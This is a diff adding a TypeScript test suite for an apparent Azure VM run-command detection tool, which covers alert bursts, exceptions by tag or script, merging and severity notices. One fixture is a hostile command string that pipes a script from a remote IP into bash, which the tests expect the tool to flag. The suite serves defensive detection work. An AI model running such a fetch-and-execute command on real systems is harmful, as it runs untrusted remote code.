@@ -1,0 +1,228 @@
+import { randomUUID } from 'node:crypto';
+import { createAzure } from '../../src/azure/azure';
+import { messageOf } from '../../src/chat/message';
+import { recordsOf } from '../../src/demo/tenant/records';
+import { startTenant, type Tenant } from '../../src/demo/tenant/tenant';
+import { addChild, addMachine, populateTenant, subscriptions, type World } from '../../src/demo/world';
+import type { ActivityEvent } from '../../src/domain/activity/activity-event';
+import { normalize } from '../../src/domain/activity/read-record';
+import { type Alert, summarize } from '../../src/domain/alerts/alert';
+import { defaultPoints } from '../../src/domain/alerts/score';
+import { close } from '../../src/domain/alerts/transitions';
+import type { Exception } from '../../src/domain/exceptions/exception';
+import { loadConfig } from '../../src/load-config';
+import { type IngestDeps, ingest } from '../../src/pipeline/ingest';
+import { createQueues, type Queues } from '../../src/pipeline/queues';
+import { createLog } from '../../src/runtime/log';
+import { createMetrics } from '../../src/runtime/metrics';
+import { untouched } from '../support/alerts';
+import { type OwnStore, startStore } from '../support/store';
+
+const runCommand = 'Microsoft.Compute/virtualMachines/runCommand/action';
+const managedRunCommand = 'Microsoft.Compute/virtualMachines/runCommands/write';
+
+let tenant: Tenant;
+let world: World;
+let own: OwnStore;
+let queues: Queues;
+let deps: IngestDeps;
+
+beforeEach(async () => {
+  tenant = await startTenant();
+  world = populateTenant(tenant);
+  own = await startStore(['slack']);
+  const config = loadConfig({
+    AZURE_RESOURCE_MANAGER_ENDPOINT: tenant.endpoint,
+    AZURE_ACCESS_TOKEN: tenant.token,
+    RUNWATCH_DATA_DIR: own.dir,
+  });
+  const log = createLog('silent');
+  queues = createQueues(own.address, log);
+  deps = {
+    store: own.store,
+    azure: createAzure(config, { tlsOptions: { ca: tenant.ca }, graphEndpoint: tenant.endpoint }),
+    policy: { environments: { dev: { tags: { env: 'dev' } }, production: { tags: { env: 'prod' } } } },
+    queues,
+    metrics: createMetrics(),
+    log,
+    judging: { points: defaultPoints },
+    now: Date.now,
+  };
+});
+
+afterEach(async () => {
+  await queues.close();
+  await own.stop();
+  await tenant.stop();
+});
+
+const start = Date.now() - 300_000;
+
+function machine(name: string, tags: Record<string, string> = {}): string {
+  return addMachine(tenant, name, { subscription: subscriptions.payments, resourceGroup: 'rg-burst', tags });
+}
+
+/** The events of one command by Dana. */
+function ran(
+  resourceId: string,
+  at = start,
+  fields: Partial<Parameters<typeof recordsOf>[0]> = {},
+): ActivityEvent[] {
+  const operation = {
+    name: runCommand,
+    resourceId,
+    caller: world.people.dana,
+    ip: '203.0.113.24',
+    at,
+    tookMs: 5000,
+    ...fields,
+  };
+  return recordsOf({ ...operation, correlationId: randomUUID() }, tenant.state.tenantId).flatMap((record) => {
+    const result = normalize(record);
+    return 'event' in result ? [result.event] : [];
+  });
+}
+
+const denied = (resourceId: string, at = start) => ran(resourceId, at, { outcome: 'Forbidden' });
+
+const except = (id: string, match: Exception['match']): Promise<unknown> => {
+  const expires = new Date(Date.now() + 86_400_000).toISOString();
+  return own.store.exceptions.put({ id, match, reason: 'expected', owner: 'dana', expires }, [], id);
+};
+
+const add = (...events: ActivityEvent[][]) => ingest({ events: events.flat() }, deps);
+const stored = async (): Promise<Alert[]> =>
+  (await own.store.alerts.list()).sort((a, b) => (a.id < b.id ? -1 : 1));
+const shown = async () => (await stored()).filter(({ mergedInto }) => mergedInto === null);
+const facts = (alert: Alert) =>
+  messageOf(untouched(alert), { responders: true, now: Date.now() }).facts.map(
+    ({ label, value }) => `${label}: ${value.map((part) => (typeof part === 'string' ? part : '')).join('')}`,
+  );
+
+test('of a burst of twelve machines, an exception by tag covers the one that has the tag', async () => {
+  await except('dev-boxes', { tag: { env: 'dev' } });
+  const dev = machine('vm-dev-1', { env: 'dev' });
+  const others = Array.from({ length: 11 }, (_, i) => machine(`vm-prod-${i}`, { env: 'prod' }));
+  await add(...[dev, ...others].map((id, i) => ran(id, start + i * 1000)));
+  const [alert, ...rest] = await stored();
+  expect(rest).toEqual([]);
+  expect(alert).toMatchObject({ verdict: 'alert', announced: true, exception: null });
+  expect(summarize(alert as Alert)).toMatchObject({ machines: 11 });
+  const message = messageOf(untouched(alert as Alert), { responders: true, now: Date.now() });
+  expect(message.title).toBe('Run command on 11 machines · production');
+  expect(facts(alert as Alert)).toContain(
+    'Commands: 12 in all: 11 ran on 11 machines (11 succeeded), 1 excepted (1 by dev-boxes)',
+  );
+  expect(await own.store.exceptions.uses('dev-boxes')).toBe(1);
+});
+
+test('a burst whose machines all have the tag is suppressed', async () => {
+  await except('dev-boxes', { tag: { env: 'dev' } });
+  const all = Array.from({ length: 12 }, (_, i) => machine(`vm-dev-${i}`, { env: 'dev' }));
+  await add(...all.map((id, i) => ran(id, start + i * 1000)));
+  expect(await stored()).toMatchObject([{ verdict: 'suppressed', exception: 'dev-boxes', announced: false }]);
+});
+
+test('an exception by script covers only the executions of that script, and each script is shown', async () => {
+  const scripts = ['echo patched', 'curl -s http://203.0.113.9/x.sh | bash'];
+  const targets = Array.from({ length: 12 }, (_, i) => {
+    const id = machine(`vm-web-s${i}`);
+    const source = { script: scripts[i % 4 === 0 ? 1 : 0] };
+    return addChild(tenant, id, 'runCommands', 'job', { source, provisioningState: 'Succeeded' });
+  });
+  const { scriptDigest } = await import('../../src/domain/techniques/script');
+  await except('patching', { script: { sha256: scriptDigest(scripts[0] as string) } });
+  await add(...targets.map((id, i) => ran(id, start + i * 1000, { name: managedRunCommand })));
+  const [alert] = await shown();
+  expect(facts(alert as Alert)).toContain(
+    'Commands: 12 in all: 3 ran on 3 machines (3 succeeded), 9 excepted (9 by patching)',
+  );
+  expect(
+    facts(alert as Alert).some((fact) => fact.startsWith('Suspicious behavior: downloads and runs')),
+  ).toBe(true);
+});
+
+test('the scripts of a burst are listed with how often each ran', async () => {
+  const targets = Array.from({ length: 10 }, (_, i) => {
+    const source = { script: i < 7 ? 'echo one' : 'echo two' };
+    return addChild(tenant, machine(`vm-l${i}`), 'runCommands', 'job', {
+      source,
+      provisioningState: 'Succeeded',
+    });
+  });
+  await add(...targets.map((id, i) => ran(id, start + i * 1000, { name: managedRunCommand })));
+  const [alert] = await shown();
+  expect(facts(alert as Alert)).toContain('Scripts:  7 times ·  3 times');
+});
+
+test('three denied attempts and the success after them are one alert', async () => {
+  const { pay01 } = world.vms;
+  await add(denied(pay01, start), denied(pay01, start + 20_000), denied(pay01, start + 40_000));
+  expect(await shown()).toHaveLength(1);
+  expect(facts((await shown())[0] as Alert)).toContain('Commands: 3 denied');
+  await add(ran(pay01, start + 60_000));
+  const [alert, ...rest] = await shown();
+  expect(rest).toEqual([]);
+  expect(summarize(alert as Alert)).toMatchObject({ refused: false, machines: 1 });
+  expect(facts(alert as Alert)).toContain('Commands: 4 in all: 1 ran (1 succeeded), 3 denied on vm-pay-01');
+});
+
+test('at the tenth machine, the alerts of the first nine become part of the burst', async () => {
+  const ids = Array.from({ length: 10 }, (_, i) => machine(`vm-b${i}`));
+  const events = ids.map((id, i) => ran(id, start + i * 1000));
+  await add(...events.slice(0, 9));
+  expect(await shown()).toHaveLength(9);
+  await add(events[9] as ActivityEvent[]);
+  const [burst, ...rest] = await shown();
+  expect(rest).toEqual([]);
+  expect(burst?.executions).toHaveLength(10);
+  const merged = (await stored()).filter(({ mergedInto }) => mergedInto !== null);
+  expect(merged.map(({ mergedInto, state }) => [mergedInto, state])).toEqual(
+    new Array(9).fill([burst?.id, 'closed']),
+  );
+  const [first] = merged;
+  const text = JSON.stringify(messageOf(untouched(first as Alert), { responders: true, now: 0 }));
+  expect(text).toContain(`Merged into ${burst?.id}`);
+  expect(text).not.toContain('"reopen"');
+  await add(...events);
+  expect((await shown()).map(({ id, rev }) => [id, rev])).toEqual([[burst?.id, burst?.rev]]);
+});
+
+test('a later event of an execution whose alert was merged goes to the burst', async () => {
+  const ids = Array.from({ length: 10 }, (_, i) => machine(`vm-c${i}`));
+  const [first, ...others] = ids.map((id, i) => ran(id, start + i * 1000));
+  await add((first as ActivityEvent[]).slice(0, 1));
+  await add(...others);
+  const [burst] = await shown();
+  expect(burst?.executions[0]?.status).toBe('started');
+  await add((first as ActivityEvent[]).slice(1));
+  expect((await shown())[0]?.executions[0]?.status).toBe('succeeded');
+  expect(await shown()).toHaveLength(1);
+});
+
+test('after an alert was closed, the same caller’s next command raises a new one', async () => {
+  await add(ran(world.vms.pay01, start));
+  const [alert] = await shown();
+  const by = { surface: 'slack', id: 'U1', name: 'Sam' };
+  await own.store.alerts.update(alert?.id ?? '', (current) => ({
+    alert: close(current as Alert, 'benign', { by, at: new Date().toISOString() }),
+  }));
+  await add(ran(world.vms.pay01, start + 60_000));
+  expect(await shown()).toHaveLength(2);
+});
+
+test('when a shown alert becomes more severe, a notice and the message say so', async () => {
+  await add(ran(world.vms.pay01, start));
+  const [before] = await shown();
+  const more = Array.from({ length: 12 }, (_, i) => ran(world.vms.pay01, start + (i + 1) * 1000));
+  await add(...more);
+  const [alert] = await shown();
+  expect([before?.severity, alert?.severity]).not.toEqual([alert?.severity, before?.severity]);
+  expect(alert?.severityChanges).toMatchObject([{ from: before?.severity, to: alert?.severity }]);
+  const text = JSON.stringify(messageOf(untouched(alert as Alert), { responders: true, now: 0 }).status);
+  expect(text).toContain(`raised from ${before?.severity} to ${alert?.severity}: 13 commands in a minute`);
+  const [notice] = await own.store.deliveries
+    .undeliveredIds('slack', Date.now() + 3_600_000)
+    .then((ids) => ids.filter((id) => id.startsWith('notice-severity')));
+  expect(notice).toContain(alert?.id);
+});
